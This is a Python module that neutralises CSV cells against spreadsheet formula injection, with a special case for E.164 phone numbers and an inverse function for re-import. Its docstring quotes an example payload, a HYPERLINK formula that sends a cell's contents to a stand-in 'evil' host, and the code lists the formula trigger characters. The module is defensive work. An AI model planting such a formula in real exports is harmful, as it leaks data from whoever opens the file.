"""Making one CSV cell safe to open in a spreadsheet (OWASP CSV injection).

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula (and tab, CR, LF
or NUL can hide such a start from a reader's eye or from a naive check), so a sign-up whose name
is `=HYPERLINK("http://evil/?"&A1, "click")` could run on the coordinator's computer. Such a cell
gets a leading `'`, which spreadsheets show but never evaluate.

One exception: a cell that is exactly an E.164 phone number (`+` and 7 to 15 digits) is written
as it is. A formula of digits alone cannot call a function, fetch a URL or start a program, so it
is harmless; CRMs and Google Contacts need the `+` and the digits exactly; and a leading `'` would
end up inside the CRM's phone field. A spreadsheet may show such a cell as the number without its
`+` (E.164 has at most 15 digits, so no digit is lost); the stored text is unchanged.
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
_TRIGGER_SET = frozenset(FORMULA_TRIGGERS)
_E164 = re.compile(r"\+[1-9][0-9]{6,14}")


def is_e164(value: str) -> bool:
    """True when `value` is exactly `+` and 7 to 15 digits, the form the kit stores phones in."""
    return _E164.fullmatch(value) is not None


def safe_cell(value: str) -> str:
    """`value`, with a leading `'` when a spreadsheet would read it as a formula.

    A value that already starts with `'` before a trigger (a name typed as `'=x`) gets one more,
    so that the importer, which removes exactly one, gives back what was typed.
    """
    # Checked per cell of every row, so the common case (no trigger, no quote) stays one lookup.
    if not value or (value[0] not in _TRIGGER_SET and value[0] != "'"):
        return value
    if value[0] == "'":
        rest = value.lstrip("'")
        return "'" + value if rest and rest[0] in _TRIGGER_SET else value
    if value[0] == "+" and is_e164(value):
        return value
    return "'" + value


def unneutralise(value: str) -> str:
    """The inverse of safe_cell, for importing our own files: one `'` removed before a trigger."""
    if value.startswith("'"):
        rest = value.lstrip("'")
        if rest and rest[0] in _TRIGGER_SET:
            return value[1:]
    return value
